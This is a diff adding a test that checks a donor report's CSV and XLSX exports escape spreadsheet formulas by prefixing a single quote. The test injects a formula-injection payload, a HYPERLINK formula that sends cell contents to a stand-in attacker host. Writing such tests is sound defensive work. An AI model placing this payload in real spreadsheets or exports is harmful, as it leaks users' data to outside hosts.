@@ -303,3 +303,19 @@ def test_a_wrong_year_is_explained_and_the_report_shows_this_quarter(as_user, an
     response = as_user(analyst).get("/activities/donor-report/", {"year": "20x6", "quarter": "3"})
     assert response.status_code == 200
     assert "Enter a whole number." in response.content.decode()
+
+
+def test_no_text_in_the_exports_is_a_formula(as_user, analyst, fixture_q3, monkeypatch):
+    """Every cell is a label today; were a typed text ever to reach one, it stays text."""
+    from coalition.activities.donor import exports
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rows_of = exports.table_rows
+    monkeypatch.setattr(exports, "table_rows", lambda table: [*rows_of(table), [formula, 1]])
+    client = as_user(analyst)
+    rows = csv_rows(client.get("/activities/donor-report/export/csv/", Q3).content)
+    assert ["'" + formula, "1"] in rows
+    response = client.get("/activities/donor-report/export/xlsx/", Q3)
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    values = [list(row)[:2] for row in sheet.iter_rows(values_only=True)]
+    assert ["'" + formula, 1] in values
